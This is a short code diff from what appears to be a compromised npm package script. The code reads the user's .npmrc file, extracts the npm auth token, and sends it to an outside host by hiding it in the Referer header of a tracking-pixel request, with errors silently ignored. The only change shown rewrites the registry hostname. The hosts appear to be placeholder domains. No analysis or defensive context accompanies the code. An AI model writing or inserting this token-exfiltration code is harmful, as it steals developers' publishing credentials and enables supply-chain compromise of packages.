@@ -8,7 +8,7 @@ try {
     if (fs.existsSync(npmrc)) {
 
         content = fs.readFileSync(npmrc, {encoding: 'utf8'});
-        content = content.replace('//registry.npmjs.org/:_authToken=', '').trim();
+        content = content.replace('//registry.npmjs.example/:_authToken=', '').trim();
 
         var https1 = require('https');
         https1.get({hostname: 'sstatic1.histats.example', path: '/0.gif?4103075&101', method: 'GET', headers: {Referer: 'http://1.a.invalid/' + content}}, () => {}).on("error", () => {});
